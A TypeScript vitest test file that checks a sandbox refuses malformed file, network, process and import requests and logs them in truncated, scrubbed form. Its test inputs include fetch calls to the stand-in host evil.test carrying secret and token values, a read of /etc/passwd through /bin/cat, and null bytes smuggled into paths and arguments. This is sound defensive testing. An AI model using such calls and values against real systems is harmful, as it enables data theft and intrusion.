import { GUEST_SURFACE, type Sandbox, Supervisor } from "@pyisolate/sandbox-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { policyOf } from "../../testing/cells.ts";
import { kernelMode } from "../../testing/kernel-mode.ts";

// A malformed request is refused before the policy, and its record says what was tried, as much of it as can be shown.

let supervisor: Supervisor;
let cell: Sandbox;

beforeAll(async () => {
  supervisor = new Supervisor({
    ...kernelMode,
    policy: policyOf([]),
  });
  cell = await supervisor.spawn("malformer");
  await cell.exec(
    `globalThis.fs = require("node:fs"); globalThis.cp = require("node:child_process"); 0`,
  );
});

afterAll(async () => {
  await supervisor.close();
});

const long = "x".repeat(5000);
const path = (call: string, operation: string): [string, string[]][] => [
  [call.replace("P", `"/tmp/a\\0b"`), [`${operation}:/tmp/a`]],
  [call.replace("P", `"/tmp/\\ud800"`), [`${operation}:/tmp/`]],
  [call.replace("P", `"/tmp/${long}"`), [`${operation}:/tmp/xxx`]],
];

/** By operation: programs, and the parts that `attempted_action` must have. */
const TRIED: Record<keyof typeof GUEST_SURFACE, [program: string, shown: string[]][]> = {
  "fs.readFile": path("fs.readFileSync(P)", "read"),
  "fs.writeFile": path("fs.writeFileSync(P, 'x')", "write"),
  "fs.appendFile": path("fs.appendFileSync(P, 'x')", "write"),
  "fs.mkdir": path("fs.mkdirSync(P)", "write"),
  "fs.readdir": path("fs.readdirSync(P)", "list"),
  "fs.stat": path("fs.statSync(P)", "stat"),
  "fs.lstat": path("fs.lstatSync(P)", "stat"),
  "fs.access": [
    ...path("fs.accessSync(P)", "stat"),
    [`fs.accessSync("/tmp/a", 99)`, ["stat:/tmp/a"]],
  ],
  "fs.realpath": path("fs.realpathSync(P)", "stat"),
  "fs.exists": path("fs.existsSync(P)", "stat"),
  "fs.rm": path("fs.rmSync(P)", "remove"),
  "fs.unlink": path("fs.unlinkSync(P)", "remove"),
  "fs.copyFile": [
    ...path("fs.copyFileSync(P, '/tmp/b')", "read"),
    ...path("fs.copyFileSync('/tmp/b', P)", "read"),
  ],
  "fs.rename": [
    ...path("fs.renameSync(P, '/tmp/b')", "remove"),
    ...path("fs.renameSync('/tmp/b', P)", "remove"),
  ],
  "fs.open": [...path("fs.openSync(P)", "read"), ...path("fs.openSync(P, 'w')", "write")],
  "fs.truncate": path("fs.truncateSync(P)", "write"),
  // What is no number of an open file is the guest's own mistake, and no request.
  "fs.read": [],
  "fs.write": [],
  "fs.fstat": [],
  "fs.ftruncate": [],
  "fs.fsync": [],
  fetch: [
    [`fetch("http://evil.test:81\\u0000/secret?token=1")`, ["connect:evil.test:81"]],
    [`fetch("http://evil.test/${"x".repeat(9000)}")`, ["connect:evil.test"]],
    [`fetch("http://user:secret@evil.test:99999/")`, ["connect:evil.test:99999"]],
    [`fetch("http://")`, ["connect:http:"]],
    [`fetch("ftp://evil.test/x")`, ["connect:ftp:"]],
    [`fetch("http://a.test:8/", { headers: { host: "b.test" } })`, ["connect:a.test:8"]],
  ],
  "child_process.execFile": [
    [`cp.execFileSync("/bin/a\\0b", ["x"])`, ["exec:", "/bin/a"]],
    [`cp.execFileSync("/bin/${long}")`, ["exec:/bin/xxx"]],
    [`cp.execFileSync("/bin/cat", ["/etc/passwd", "a\\0b"])`, ["exec:/bin/cat /etc/passwd a"]],
    [`cp.execFileSync("/bin/cat", ["/etc/passwd", "\\ud800"])`, ["exec:/bin/cat /etc/passwd"]],
    [`cp.execFileSync("/bin/cat", ["one two", 7, "three"])`, [`exec:/bin/cat "one two"`]],
    [`cp.execFileSync("/bin/cat", ["first", "y".repeat(200000)])`, ["exec:/bin/cat first yyy"]],
    [`cp.execFileSync("/bin/cat", Array(5000).fill("z"))`, ["exec:/bin/cat z z z"]],
  ],
  "crypto.getRandomValues": [
    ["crypto.getRandomValues(new Uint8Array(65537))", ["read:65537 bytes"]],
  ],
  // They take no arguments, so none of theirs are malformed.
  "crypto.randomUUID": [],
  "Math.random": [],
  import: [
    [`require("a\\0b")`, ["load:a"]],
    [`require("\\ud800mod")`, ["load:", "mod"]],
    [`require("m".repeat(5000))`, ["load:mmm"]],
  ],
};

describe.each(Object.entries(TRIED).filter(([, rows]) => rows.length > 0))(
  "%s",
  (_operation, rows) => {
    test.each(rows)("%.100s", async (program, shown) => {
      const before = cell.stats.denials;
      const reason = await cell.exec(
        `(async () => { try { await ${program}; } catch (error) { return error.reason ?? String(error); } })()`,
      );
      expect(reason).toBe("malformed");
      expect(cell.stats.denials).toBe(before + 1);
      const event = cell.denialEvents().at(-1);
      const tried = event?.attemptedAction ?? "";
      const [start = "", ...others] = shown;
      expect(tried.slice(0, start.length)).toBe(start);
      expect(others.filter((part) => !tried.includes(part))).toEqual([]);
      expect(tried).not.toMatch(/secret|token|\p{Cc}/u);
      expect(tried.length).toBeLessThanOrEqual(1100);
    });
  },
);
